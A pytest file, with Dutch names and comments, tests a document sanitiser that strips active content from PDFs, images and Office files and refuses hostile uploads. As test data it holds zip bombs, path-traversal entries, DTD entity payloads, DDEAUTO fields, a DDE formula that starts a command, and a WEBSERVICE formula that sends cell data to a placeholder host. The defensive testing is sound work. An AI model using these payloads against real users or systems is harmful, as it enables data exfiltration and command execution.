"""De keuring van echte en vijandige bestanden."""

from __future__ import annotations

import io
import os
import zipfile
from typing import Any

import openpyxl
import pikepdf
import pytest
from PIL import Image, ImageFile

from casus.documentkeuring import keurmeester as module
from casus.documentkeuring import werk
from casus.documentkeuring.keurmeester import Keurmeester, Uitslag
from tests import documenten
from tests.documenten import KANARIE, docx, docx_delen, pakket, relatie

keurmeester = Keurmeester()


@pytest.fixture(autouse=True)
def _in_dit_proces(monkeypatch) -> None:
    """De bestanden gaan hier in dit proces open, dat scheelt een halve seconde per stuk; test_kind doet het echt."""
    doe = {"keur": werk.keur, "teken": werk.teken}
    monkeypatch.setattr(module, "vraag", lambda opdracht, inhoud, _: doe[opdracht.pop("doe")](inhoud, **opdracht))


def goed(naam: str, inhoud: bytes) -> Uitslag:
    uitslag = keurmeester.keur(inhoud, naam)
    assert uitslag.reden == ""
    return uitslag


def geweigerd(naam: str, inhoud: bytes) -> str:
    uitslag = keurmeester.keur(inhoud, naam)
    assert uitslag.reden and uitslag.inhoud == b"" and not uitslag.mediatype
    return uitslag.reden


# --- pdf ---


def test_een_gewone_pdf_blijft_leesbaar_en_telt_zijn_bladen():
    uitslag = goed("verslag.pdf", documenten.pdf(3, "Kastanjehof"))
    assert (uitslag.mediatype, uitslag.bladen) == ("application/pdf", 3)
    aantal, bladen = keurmeester.teken(uitslag.inhoud, uitslag.mediatype, 2, 5)
    assert (aantal, len(bladen)) == (3, 2)
    with Image.open(io.BytesIO(bladen[0])) as blad:
        assert blad.format == "PNG" and blad.width <= 1100 and min(blad.convert("L").getextrema()) < 100


def test_uit_een_vijandige_pdf_gaat_alles_wat_iets_doet_of_verraadt():
    voor = documenten.vijandige_pdf()
    na = goed("x.pdf", voor)
    assert na.bladen == 2
    with pikepdf.open(io.BytesIO(voor)) as oud, pikepdf.open(io.BytesIO(na.inhoud)) as pdf:
        assert KANARIE in b"".join(_alles(oud)) and len(oud.attachments) == 1
        alles = b"".join(_alles(pdf))
        assert KANARIE not in alles
        for woord in (
            b"JavaScript",
            b"Launch",
            b"OpenAction",
            b"EmbeddedFile",
            b"FileAttachment",
            b"file://",
            b"PieceInfo",
        ):
            assert woord not in alles, woord
        assert b"https://voorbeeld.nl/" in alles, "een gewone link blijft"
        assert "/Info" not in pdf.trailer and "/Metadata" not in pdf.Root
        foto = pdf.pages[0].Resources.XObject.I1
        assert Image.open(io.BytesIO(foto.read_raw_bytes())).size == (40, 30)


def _alles(pdf: pikepdf.Pdf) -> list[bytes]:
    uit = []
    for object_ in pdf.objects:
        uit.append(object_.unparse(resolved=True))
        if isinstance(object_, pikepdf.Stream):
            uit.append(object_.read_raw_bytes())
            if object_.get("/Filter") in (None, "/FlateDecode"):
                uit.append(object_.read_bytes())
    return uit


def test_bladwijzers_blijven_aan_elkaar():
    with pikepdf.open(io.BytesIO(documenten.pdf(2))) as pdf:
        with pdf.open_outline() as inhoud:
            inhoud.root.extend(pikepdf.OutlineItem(f"Deel {nr}", nr) for nr in range(2))
        uit = io.BytesIO()
        pdf.save(uit)
    with pikepdf.open(io.BytesIO(goed("x.pdf", uit.getvalue()).inhoud)) as pdf, pdf.open_outline() as inhoud:
        assert [deel.title for deel in inhoud.root] == ["Deel 0", "Deel 1"]


def test_wat_achter_een_pdf_hangt_gaat_weg():
    uitslag = goed("x.pdf", documenten.pdf() + pakket({"a.html": b"<script>"}) + b"<script>" + KANARIE)
    assert KANARIE not in uitslag.inhoud and not zipfile.is_zipfile(io.BytesIO(uitslag.inhoud))


@pytest.mark.parametrize(
    ("inhoud", "deel"),
    [
        (documenten.pdf_met_wachtwoord(), "De pdf heeft een wachtwoord."),
        (b"%PDF-1.7\n" + os.urandom(500), "De pdf is beschadigd"),
        (b"%PDF-1.7\n%%EOF", "De pdf is beschadigd"),
    ],
)
def test_een_pdf_die_niet_open_gaat(inhoud, deel):
    assert deel in geweigerd("x.pdf", inhoud)


def test_een_pdf_zonder_bladen():
    with pikepdf.new() as pdf:
        uit = io.BytesIO()
        pdf.save(uit)
    assert geweigerd("x.pdf", uit.getvalue()).startswith("De pdf heeft geen bladen.")


# --- beelden ---


def test_een_foto_verliest_haar_gegevens_en_staat_rechtop():
    voor = documenten.jpg(exif=True)
    assert KANARIE in voor
    uitslag = goed("foto.jpg", voor + b"<script>" + KANARIE)
    assert KANARIE not in uitslag.inhoud and uitslag.bladen == 1
    with Image.open(io.BytesIO(uitslag.inhoud)) as foto:
        assert (foto.format, foto.size, dict(foto.getexif())) == ("JPEG", (30, 40), {})
        assert "icc_profile" not in foto.info and "comment" not in foto.info


@pytest.mark.parametrize("modus", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_elke_soort_png_wordt_schoon_en_is_te_tekenen(modus):
    voor = documenten.png(modus=modus)
    uitslag = goed("scan.png", voor)
    assert KANARIE in voor and KANARIE not in uitslag.inhoud
    assert keurmeester.teken(uitslag.inhoud, uitslag.mediatype, 1, 5)[0] == 1


def test_een_beeld_van_zestig_miljoen_punten_wordt_niet_uitgepakt():
    reden = geweigerd("groot.png", documenten.png_kop(10_000, 6_000))
    assert reden == "Het beeld is 10000 bij 6000 punten. Maak het kleiner: tot 50 miljoen punten."


@pytest.mark.parametrize("inhoud", [documenten.jpg()[:300], documenten.png_kop(100, 100), documenten.png()[:60]])
def test_een_half_beeld(inhoud):
    naam = "x.jpg" if inhoud.startswith(b"\xff") else "x.png"
    assert "Het beeld is beschadigd" in geweigerd(naam, inhoud)


@pytest.mark.parametrize("ruim", [True, False])
def test_een_half_beeld_blijft_kapot_als_een_bibliotheek_het_goedvindt(ruim: bool, monkeypatch):
    """WeasyPrint zet deze schakelaar van Pillow om voor het hele proces; wie hem zo vond, vindt hem zo terug."""
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", ruim)
    half = documenten.jpg(400, 300)[:-300]
    assert "Het beeld is beschadigd" in geweigerd("x.jpg", half)
    with pytest.raises(werk.Geweigerd):
        keurmeester.teken(half, "image/jpeg", 1, 5)
    assert ImageFile.LOAD_TRUNCATED_IMAGES is ruim


# --- docx en xlsx ---


def test_een_word_document_verliest_zijn_eigenschappen():
    links = relatie("hyperlink", "https://voorbeeld.nl/") + relatie("hyperlink", f"file:///{KANARIE.decode()}")
    links += relatie("attachedTemplate", f"file:///{KANARIE.decode()}.dotm")
    instellingen = '<w:settings xmlns:w="x" xmlns:r="y"><w:attachedTemplate r:id="x1"/></w:settings>'
    voor = pakket(
        {**docx_delen(relaties=links), "word/settings.xml": instellingen, "word/media/a.jpg": documenten.jpg(exif=True)}
    )
    uitslag = goed("brief.docx", voor)
    with zipfile.ZipFile(io.BytesIO(uitslag.inhoud)) as archief:
        alles = {naam: archief.read(naam) for naam in archief.namelist()}
    assert b"Verslag van het gesprek" in alles["word/document.xml"]
    assert all(KANARIE not in deel for deel in alles.values())
    assert b"https://voorbeeld.nl/" in alles["word/_rels/document.xml.rels"]
    assert b"attachedTemplate" not in alles["word/settings.xml"] + alles["word/_rels/document.xml.rels"]
    assert uitslag.bladen is None


def test_een_excel_werkmap_gaat_daarna_nog_open():
    uitslag = goed("lijst.xlsx", documenten.xlsx())
    werkmap = openpyxl.load_workbook(io.BytesIO(uitslag.inhoud))
    assert werkmap.active["A1"].value == "Woning" and werkmap.properties.creator != KANARIE.decode()


_VIJANDIG: dict[str, tuple[Any, str]] = {
    "bom": (documenten.bom, "Het bestand is uitgepakt te groot."),
    "liegende bom": (documenten.liegende_bom, "Het bestand is beschadigd"),
    "te veel delen": (lambda: pakket({**docx_delen(), **{f"word/{nr}.xml": "<a/>" for nr in range(500)}}), "te groot"),
    "macro": (lambda: pakket({**docx_delen(), "word/vbaProject.bin": b"x"}), "Het bestand bevat macro's."),
    "macro onder een andere naam": (
        lambda: docx(relaties=relatie("vbaProject", "foto.png", buiten=False)),
        "Het bestand bevat macro's.",
    ),
    "macro-document": (
        lambda: pakket(
            {**docx_delen(), "[Content_Types].xml": '<Types><Default ContentType="x.macroEnabled.12"/></Types>'}
        ),
        "Het bestand bevat macro's.",
    ),
    "pad naar buiten": (lambda: pakket({**docx_delen(), "../../x.xml": "<a/>"}), "Het bestand is beschadigd"),
    "vast pad": (lambda: pakket({**docx_delen(), "/etc/x.xml": "<a/>"}), "Het bestand is beschadigd"),
    "windowspad": (lambda: pakket({**docx_delen(), "word\\..\\x.xml": "<a/>"}), "Het bestand is beschadigd"),
    "twee keer hetzelfde": (lambda: pakket({**docx_delen(), "WORD/document.xml": "<a/>"}), "Het bestand is beschadigd"),
    "zip in zip": (lambda: pakket({**docx_delen(), "word/media/x.png": pakket({"a": b"b"})}), "zit een ander bestand"),
    "programma": (lambda: pakket({**docx_delen(), "word/media/x.png": b"MZ\x90"}), "zit een ander bestand"),
    "ingesloten": (lambda: pakket({**docx_delen(), "word/embeddings/x.xml": "<a/>"}), "zit een ander bestand"),
    "html": (lambda: pakket({**docx_delen(), "word/x.html": "<script>"}), "zit een ander bestand"),
    "beeld van buiten": (lambda: docx(relaties=relatie("image", "https://x.nl/a.png")), "van een ander adres"),
    "object van buiten": (lambda: docx(relaties=relatie("oleObject", "https://x.nl/a")), "van een ander adres"),
    "eigen dtd": (
        lambda: pakket({**docx_delen(), "word/x.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        "Het bestand is beschadigd",
    ),
    "dtd in utf-16": (
        lambda: pakket({**docx_delen(), "word/x.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16")}),
        "Het bestand is beschadigd",
    ),
    "geen xml": (lambda: pakket({**docx_delen(), "word/document.xml": "<a>"}), "Het bestand is beschadigd"),
    "eicar erin": (lambda: pakket({**docx_delen(), "word/media/x.png": documenten.eicar()}), "is een virus gevonden"),
    "werkmap als docx": (documenten.xlsx, "Dit is geen Word-document."),
    "los zipbestand": (lambda: pakket({"a.xml": "<a/>"}), "Dit is geen Word-document."),
    "geen zip": (lambda: b"PK\x03\x04" + os.urandom(200), "Het bestand is beschadigd"),
    "tekst die zich beeld noemt": (
        lambda: pakket(
            {
                **docx_delen(),
                "[Content_Types].xml": str(docx_delen()["[Content_Types].xml"]).replace(
                    "</Types>", '<Override PartName="/word/kop.png" ContentType="application/x.header+xml"/></Types>'
                ),
                "word/kop.png": '<w:hdr xmlns:w="x"><w:instrText>DDEAUTO c:</w:instrText></w:hdr>',
            }
        ),
        "Het bestand is beschadigd",
    ),
    "dde buiten de map word": (
        lambda: pakket({**docx_delen(), "x/y.xml": '<w:a xmlns:w="x"><w:instrText>DDE a</w:instrText></w:a>'}),
        "van een ander adres",
    ),
    "plaatje van buiten in een veld": (
        lambda: docx('x</w:t></w:r><w:r><w:instrText>INCLUDEPICTURE "https://x.nl/a"</w:instrText></w:r><w:r><w:t>x'),
        "van een ander adres",
    ),
    "dde": (
        lambda: docx(
            "x</w:t></w:r><w:r><w:instrText>DDEA</w:instrText></w:r><w:r><w:instrText>UTO c:\\</w:instrText>"
            "</w:r><w:r><w:t>x"
        ),
        "van een ander adres",
    ),
}


@pytest.mark.parametrize(
    "formule",
    [
        '_xlfn.WEBSERVICE("https://x.nl/" & A1)',
        'image("https://x.nl/a.png")',
        'RTD("x",,"y")',
        "cmd|'/c calc'!A0",
        "[1]Blad1!$A$1",
    ],
)
def test_een_formule_die_iets_van_elders_haalt_wordt_geweigerd(formule):
    assert "van een ander adres" in geweigerd("lijst.xlsx", documenten.xlsx(formule=formule))


@pytest.mark.parametrize("formule", ["SUM(A1:A3)", "Tabel1[[#This Row],[Huur]]*2", 'IF(A1="a|b","ja!","nee")'])
def test_een_gewone_formule_mag(formule):
    assert goed("lijst.xlsx", documenten.xlsx(formule=formule)).inhoud


@pytest.mark.parametrize("naam", sorted(_VIJANDIG))
def test_een_vijandig_document_wordt_geweigerd(naam):
    maak, deel = _VIJANDIG[naam]
    assert deel in geweigerd("brief.docx", maak())


def test_een_koppeling_naar_een_andere_werkmap():
    with zipfile.ZipFile(io.BytesIO(documenten.xlsx())) as archief:
        delen: dict[str, bytes | str] = {naam: archief.read(naam) for naam in archief.namelist()}
    assert "ander bestand" in geweigerd("x.xlsx", pakket({**delen, "xl/externalLinks/externalLink1.xml": "<a/>"}))


# --- virussen ---


@pytest.mark.parametrize("naam", ["eicar.pdf", "eicar.com", "eicar.docx"])
def test_de_proefhandtekening_wordt_altijd_gevonden(naam):
    assert geweigerd(naam, documenten.eicar()).startswith("In dit bestand is een virus gevonden.")
    assert "virus" in geweigerd("x.pdf", documenten.pdf() + documenten.eicar())
